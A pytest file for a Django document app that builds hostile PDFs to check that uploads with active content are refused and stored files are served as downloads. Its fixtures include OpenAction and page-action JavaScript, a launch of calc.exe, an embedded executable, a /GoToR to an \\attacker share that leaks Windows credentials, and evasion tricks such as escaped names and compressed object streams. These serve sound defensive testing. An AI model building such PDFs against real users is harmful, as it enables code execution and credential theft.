"""Scans that carry active content are refused, and every stored file is a download.

The attack: a PDF whose /OpenAction runs JavaScript passed the scan check, was stored, and
was served inline (to partners too, once shared). The PDFs here are real: a WeasyPrint page
changed with pypdf (or written by hand, for what pypdf would not write), as a hostile
gestionnaire's tool would.
"""

import zlib
from io import BytesIO
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from documents import printing
from documents import signed as documents
from documents.models import SignedDocument
from tests.factories import ConventionFactory, UserFactory

pytestmark = pytest.mark.django_db

REFUSED = "Ce PDF contient du contenu actif (JavaScript, lancement de programme ou fichier joint)"


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {name("/S"): name(kind), **{name(f"/{k}"): TextStringObject(v) for k, v in entries.items()}}
    )


def scan_pdf(change=None) -> bytes:
    """A one-page PDF as a scanner would give it, changed by `change(writer)`."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(printing.write_pdf("<p>Exemplaire</p>"))))
    if change is not None:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def open_action_javascript(writer):
    writer._root_object[name("/OpenAction")] = action("/JavaScript", JS="app.alert('pwned')")


def document_javascript(writer):
    """A document-level script, in the catalog's /Names /JavaScript tree."""
    script = writer._add_object(action("/JavaScript", JS="app.launchURL('https://x.org/');"))
    writer._root_object[name("/Names")] = DictionaryObject(
        {
            name("/JavaScript"): DictionaryObject(
                {name("/Names"): ArrayObject([TextStringObject("ouverture"), script])}
            )
        }
    )


def page_additional_action(writer):
    writer.pages[0][name("/AA")] = DictionaryObject(
        {name("/O"): action("/JavaScript", JS="this.submitForm('https://example.org/')")}
    )


def launch_action(writer):
    writer._root_object[name("/OpenAction")] = action("/Launch", F="C:\\Windows\\calc.exe")


def embedded_file(writer):
    writer.add_attachment("facture.exe", b"MZ\x90\x00 not a scan")


def file_attachment_annotation(writer):
    rect = ArrayObject([FloatObject(10), FloatObject(10), FloatObject(40), FloatObject(40)])
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/FileAttachment"),
                name("/Rect"): rect,
                name("/Contents"): TextStringObject("pièce jointe"),
            }
        ),
    )


def hand_written_pdf(body: bytes, *, catalog: bytes) -> bytes:
    """A PDF written by hand (objects 1-3: catalog, pages, page; then `body`), with a
    correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    if body:
        objects.append(body)
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def compressed_object_stream_pdf() -> bytes:
    """A PDF whose catalog's /OpenAction is object 5, compressed in an object stream (4):
    no byte of the file reads "JavaScript"."""
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + hidden)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, content in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]  # object 0: free
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (1, 2, 3, 4)]
    rows += [b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00"]  # object 5: in stream 4
    rows += [b"\x01" + offsets[6].to_bytes(4, "big") + b"\x00\x00"]  # the xref stream
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    assert b"JavaScript" not in out
    return bytes(out)


ATTACKS = {
    "JavaScript /OpenAction": lambda: scan_pdf(open_action_javascript),
    "JavaScript in the names tree": lambda: scan_pdf(document_javascript),
    "JavaScript page /AA": lambda: scan_pdf(page_additional_action),
    "/Launch action": lambda: scan_pdf(launch_action),
    "/EmbeddedFiles": lambda: scan_pdf(embedded_file),
    "/FileAttachment annotation": lambda: scan_pdf(file_attachment_annotation),
    # Opens a file on a network share: Windows sends the user's credentials to it.
    "/GoToR to a network share": lambda: hand_written_pdf(
        b"", catalog=rb"/OpenAction << /S /GoToR /F (\\\\attacker\\partage\\a.pdf) /D [0 /Fit] >>"
    ),
    # Names written with #-escapes, which a byte search would miss.
    "escaped /J#53 name": lambda: hand_written_pdf(
        b"", catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    ),
    # An object no page reaches, which a viewer may still read.
    "unreachable object": lambda: hand_written_pdf(
        b"<< /S /JavaScript /JS (app.alert(1)) >>", catalog=b""
    ),
    # Compressed in an object stream, where no byte search sees it.
    "compressed object stream": compressed_object_stream_pdf,
    "XFA form": lambda: hand_written_pdf(
        b"", catalog=b"/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>"
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_scans_with_active_content_are_refused(attack):
    data = ATTACKS[attack]()
    assert PdfReader(BytesIO(data)).pages  # a real PDF, that opens
    with pytest.raises(ValidationError, match=r"contenu actif"):
        documents.check_scan(SimpleUploadedFile("scan.pdf", data))


@pytest.mark.parametrize(
    "data",
    [
        scan_pdf,
        lambda: printing.write_pdf(
            '<p>Voir <a href="https://www.ac-aix-marseille.fr/">ici</a></p>'
        ),
        lambda: hand_written_pdf(b"", catalog=b""),
    ],
)
def test_plain_scans_still_pass(data):
    content = data()
    assert documents.check_scan(SimpleUploadedFile("scan.pdf", content)) == content


def test_a_javascript_scan_uploaded_on_the_staff_page_is_refused_in_french(client, settings):
    client.force_login(UserFactory(manager=True))
    convention = ConventionFactory(signed=True)
    response = client.post(
        reverse("documents:upload_scan", args=[convention.reference]),
        {
            "file": SimpleUploadedFile("scan signé.pdf", scan_pdf(open_action_javascript)),
            "shared_with_partners": "on",
        },
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert "Ce PDF contient du contenu actif (JavaScript, lancement de programme" in content
    assert "qu&#x27;un scan ne contient jamais : il est refusé." in content
    assert not SignedDocument.objects.exists()
    media = Path(settings.MEDIA_ROOT)
    assert not media.exists() or not [p for p in media.rglob("*") if p.is_file()]


# --- Stored files are downloads -----------------------------------------------------------


def assert_download(response, filename):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert filename in response["Content-Disposition"]
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content).startswith(b"%PDF-")


def test_stored_files_download_from_the_staff_pages(client):
    client.force_login(UserFactory(reader=True))
    convention = ConventionFactory(signed=True)
    generated = documents.store_signed_pdf(convention)
    scan = documents.store_scan(
        convention=convention, data=scan_pdf(), original_name="scan.pdf", user=None
    )
    assert_download(
        client.get(reverse("documents:pdf", args=[convention.reference])),
        generated.download_name,
    )
    for document in (generated, scan):
        url = reverse("documents:document_download", args=[convention.reference, document.pk])
        assert_download(client.get(url), document.download_name)


def test_stored_files_download_from_the_portal(client, world):
    a = world.a
    generated = documents.store_signed_pdf(a.convention)
    client.force_login(a.user)
    assert_download(
        client.get(reverse("portal:convention_pdf", args=[a.convention.reference])),
        generated.download_name,
    )
    assert_download(
        client.get(reverse("portal:document", args=[a.convention.reference, a.scan.pk])),
        a.scan.download_name,
    )
